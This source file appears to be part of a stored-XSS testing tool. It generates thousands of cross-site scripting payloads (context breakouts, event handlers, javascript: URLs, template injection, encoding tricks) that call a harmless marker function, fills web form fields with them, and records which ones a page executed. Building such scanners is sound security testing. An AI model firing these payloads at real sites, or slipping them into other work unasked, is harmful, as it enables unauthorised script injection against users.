// Ten thousand pieces of markup that would run if a page took them for its own, made by a grammar:
// where they stand × which element × which event × how it is written.
//
// Each has a number, calls `xzp(number)` and carries an attribute `xzp`: an element with it was made from what was typed.

import { identityNumber } from "../person.mjs";

const TAGS = ["img src=x", "svg", "body", "iframe src=x", "video src=x", "audio src=x", "input autofocus", "details open", "object data=x", "embed src=x",
  "math", "marquee", "select autofocus", "textarea autofocus", "style", "link rel=stylesheet href=x", "form", "a href=x", "button autofocus", "template"];
const EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onclick", "onpageshow", "onbegin", "onanimationstart", "onpointerenter"];
/** What stands around: text, values in quotes, and elements whose text ends otherwise. */
const PLACES = [(it) => it, (it) => `">${it}`, (it) => `'>${it}`, (it) => `</title>${it}`, (it) => `</textarea>${it}`, (it) => `</script>${it}`, (it) => `-->${it}`, (it) => `</style>${it}`];
const WRITTEN = [
  (tag, event, call) => `<${tag} xzp ${event}=${call}>`,
  (tag, event, call) => `<${tag.replaceAll(" ", "/")}/xzp/${event}="${call}"/>`,
  (tag, event, call) => `<${tag.toUpperCase()}\txzp\t${event.toUpperCase()}='${call}'>`,
  (tag, event, call) => `<${tag} xzp ${event}=&#120;zp&#40;${call.slice(4, -1)})>`,
  (tag, event, call) => `&lt;${tag} xzp ${event}=${call}&gt;`,
  (tag, event, call) => `\\u003c${tag} xzp ${event}=${call}\\u003e`,
  (tag, event, call) => `<<${tag} xzp ${event}=${call}//`,
];
/** What needs no element of its own, or fits several places at once. */
const OTHERS = [
  (call) => `<script xzp>${call}</script>`,
  (call) => `" xzp onfocus=${call} autofocus x="`,
  (call) => `' xzp onmouseover=${call} x='`,
  (call) => `javascript:${call}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<a xzp href=javascript:${call}>x</a>`,
  (call) => `<base xzp href=//x><!--${call}-->`,
  (call) => `<meta xzp http-equiv=refresh content="0;javascript:${call}">`,
  (call) => `'"></textarea></script><svg xzp onload=${call}>`,
  (call) => `]]><script xzp>${call}</script>`,
  (call) => `＜script xzp＞${call}＜/script＞`,
];

/** The payload of that number. */
export function payload(at) {
  const call = `xzp(${at})`;
  if (at % 8 === 0) return PLACES[(at >> 3) % PLACES.length](OTHERS[(at >> 6) % OTHERS.length](call));
  const pick = (list, turn) => list[turn % list.length];
  const [tag, event] = [pick(TAGS, at), pick(EVENTS, Math.floor(at / TAGS.length))];
  return pick(PLACES, Math.floor(at / 7))(pick(WRITTEN, Math.floor(at / 3))(tag, event, call));
}

/** Hands them out to the fields of forms, as many as fit into each; counts those that were taken. */
export class Payloads {
  #next = 1;
  #codes = 0;
  #matters = [];
  taken = new Set();

  get size() {
    return this.taken.size;
  }

  matters() {
    return this.#matters;
  }

  fresh(kind, room) {
    if (kind === "id") return identityNumber("19850607", 1 + ((this.#codes += 1) % 998));
    if (kind === "phone") return `1380000${String(1000 + ((this.#codes += 1) % 9000))}`;
    const made = [];
    for (let left = room; ; ) {
      const next = payload(this.#next);
      if (next.length + 1 > left) break;
      this.#next += 1;
      made.push(next);
      left -= next.length + 1;
    }
    return made.length ? made.join(" ") : "x";
  }

  keep(matter, values) {
    if (!this.#matters.includes(matter)) this.#matters.push(matter);
    for (const number of numbers(values.map((one) => one.value).join(" "))) this.taken.add(number);
  }
}

/** The numbers of the payloads that stand in a text. */
export function numbers(text) {
  return [...text.matchAll(/(?:xzp\(|&#120;zp&#40;)(\d+)\)/g)].map(([, number]) => Number(number));
}
